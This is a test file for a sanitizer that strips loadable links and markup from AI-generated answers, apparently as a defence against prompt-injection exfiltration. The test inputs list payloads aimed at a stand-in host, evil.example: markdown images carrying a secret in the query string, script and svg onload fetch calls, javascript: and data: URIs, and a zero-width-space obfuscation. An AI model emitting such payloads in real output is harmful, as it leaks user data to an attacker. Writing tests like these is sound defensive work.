import { describe, expect, it } from 'vitest';
import { harmlessText } from '../../../src/core/ask/grounding/harmless-text.ts';

const source = 'Veja https://aurora.example/trocas. O valor é menor que 5 (x<5).';
const loadable = /!\[|\]\(|<[a-z/!?]|(?:https?:)?\/\/evil|www\.evil|javascript:|data:/i;

describe('harmlessText', () => {
  it.each([
    '![x](https://evil.example/?q=segredo)',
    '![x][1]\n[1]: https://evil.example/a',
    '[clique](https://evil.example/?q=segredo)',
    '[clique]: //evil.example/a',
    '<img src="https://evil.example/a">',
    '<IMG SRC=//evil.example/a>',
    '<script>fetch("https://evil.example")</script>',
    '<https://evil.example/a>',
    'https://evil.example/?q=segredo',
    'HTTPS://EVIL.example/A',
    'www.evil.example/a',
    '//evil.example/a',
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    '[a](javascript:alert(1))',
    '<svg/onload=fetch(`//evil.example`)>',
    'https\u200b://evil.example/a',
  ])('leaves nothing to load or follow in %s', (text) => {
    expect(harmlessText(text, [source])).not.toMatch(loadable);
  });

  it.each(['- **Data:** 12/03/2024', 'Data: 12/03/2024', 'Metadata:x', 'Profile: x', 'O campo "data:" é a data.'])(
    'leaves a label alone: %s',
    (text) => {
      expect(harmlessText(text, [source])).toBe(text);
    },
  );

  it('keeps an address that stands in a source', () => {
    expect(harmlessText('Veja https://aurora.example/trocas.', [source])).toBe('Veja https://aurora.example/trocas.');
  });

  it('removes an address that only begins like one in a source', () => {
    expect(harmlessText('https://aurora.example/trocas?q=segredo', [source])).toBe('[…]');
  });

  it.each(['R$ 49,90 [1].', 'x < 5 e x<5', 'a/b // nota', 'às 12:30', 'Prazo: 12 dias', 'E-mail: a@b.example'])(
    'leaves %s alone',
    (text) => {
      expect(harmlessText(text, [source])).toBe(text);
    },
  );
});
